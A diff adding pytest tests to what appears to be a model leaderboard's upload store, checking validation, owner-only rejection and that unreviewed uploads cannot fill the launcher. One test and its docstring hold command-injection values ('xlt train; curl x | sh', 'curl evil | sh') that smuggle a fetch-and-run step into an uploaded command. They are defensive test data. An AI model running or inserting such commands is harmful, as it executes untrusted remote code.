@@ -155,6 +155,8 @@ def test_strange_summaries_change_no_figure(space, summary):
     ({"schema_version": 1, "training": "boom"}, "'training' has the wrong type"),
     ({"collapsed": "no"}, "'collapsed' has the wrong type"),
     ({"seen_languages": [1]}, "'seen_languages' has the wrong type"),
+    # English left out of what the run saw would count its in-language score as a target
+    ({"seen_languages": []}, "'seen_languages' must include every source language"),
 ])
 def test_bad_uploads_are_refused_with_the_reason(space, overrides, message):
     store, repo, tmp_path = space
@@ -350,3 +352,41 @@ def test_parallel_uploads_stay_within_the_waiting_cap(space, monkeypatch):
     [t.start() for t in threads]
     [t.join() for t in threads]
     assert outcomes.count("kept") == 2 and len(files_under(store.submitted_dir)) == 2, outcomes
+
+
+def test_an_uploads_command_is_rebuilt_from_its_config(space):
+    """The leaderboard shows `command` as the line that reproduces a row: an uploader's own text (`xlt train;
+    curl evil | sh`) was shown as it came."""
+    store, _, tmp_path = space
+    kept = upload(store, tmp_path, make_upload(run_id="cmd-000001", command="xlt train --task nli; curl x | sh"))
+    assert kept["command"] == ExperimentConfig.from_dict(kept["config"]).to_command()
+    assert "curl" not in json.dumps(json.loads(next(iter(files_under(store.submitted_dir))).read_text()))
+
+
+def test_owner_rejects_a_submission_and_it_frees_its_place(space, monkeypatch):
+    store, repo, tmp_path = space
+    monkeypatch.setattr("xlt.results.store.MAX_WAITING_ANONYMOUS", 1)
+    upload(store, tmp_path, make_upload(run_id="junk-00001"))
+    with pytest.raises(XltError, match="anonymous visitors have 1"):
+        upload(store, tmp_path, make_upload(run_id="junk-00002", seed=2, config={**make_upload()["config"],
+                                                                              "train": {"seed": 2}}))
+    monkeypatch.setenv("SPACE_ID", "owner/xlt")
+    monkeypatch.setenv("SPACE_AUTHOR_NAME", "owner")
+    assert "Refused" in board.reject_record(store, "junk-00001", None)
+    assert "Refused" in board.reject_record(store, "junk-00001", {"preferred_username": "mallory"})
+    assert files_under(store.submitted_dir)  # a refusal deletes nothing
+    assert "Rejected" in board.reject_record(store, "junk-00001", {"preferred_username": "owner"})
+    assert files_under(store.submitted_dir) == [] and files_under(repo) == []
+    assert "no submitted record" in board.reject_record(store, "junk-00001", {"preferred_username": "owner"})
+    upload(store, tmp_path, make_upload(run_id="good-00001"))  # the place is free again
+
+
+def test_an_unreviewed_upload_never_fills_the_owners_launcher(space):
+    """Re-run filled the launcher from any listed record: an upload naming a Hub model or translator of the
+    uploader's choosing, launched by the owner, would run with the Space's token."""
+    store, _, tmp_path = space
+    upload(store, tmp_path, make_upload(run_id="rerun-0001"))
+    with pytest.raises(XltError, match="nobody has reviewed"):
+        board.rerun_values(store, "rerun-0001")
+    store.accept("rerun-0001")
+    assert board.rerun_values(store, "rerun-0001")["task"] == "nli"
